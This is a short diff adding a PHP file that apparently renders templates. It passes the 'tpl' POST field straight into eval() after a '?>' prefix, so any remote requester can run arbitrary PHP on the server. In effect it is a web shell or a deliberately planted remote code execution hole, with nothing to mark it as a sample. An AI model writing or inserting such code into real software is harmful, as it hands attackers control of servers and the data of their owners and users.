@@ -1,0 +1,5 @@
+<?php
+$tpl = $_POST['tpl'] ?? '';
+$vars = ['name' => 'guest'];
+extract($vars);
+eval('?>' . $tpl);
